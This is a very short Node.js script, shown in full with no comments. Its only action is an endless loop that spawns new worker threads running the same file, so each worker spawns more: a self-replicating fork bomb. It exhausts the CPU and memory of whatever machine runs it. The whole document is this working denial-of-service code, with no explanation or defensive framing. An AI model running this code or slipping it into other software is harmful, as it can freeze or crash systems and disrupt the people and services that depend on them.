import { Worker } from 'node:worker_threads';
import { fileURLToPath } from 'node:url';
const self = fileURLToPath(import.meta.url);
while (1) new Worker(self);
